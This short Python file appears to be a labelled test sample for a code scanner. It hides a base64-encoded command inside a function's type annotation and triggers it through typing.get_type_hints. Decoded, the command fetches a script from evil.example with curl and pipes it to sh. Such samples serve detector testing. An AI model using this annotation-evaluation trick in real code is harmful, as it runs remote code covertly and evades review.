# harm: runs curl|sh via os.system ; trick: the annotation itself is a base64 decode call, so no name in it is bound to a run-time value
import base64
import typing


def handler(x: base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS9pLnNofHNoJyk=").decode()) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
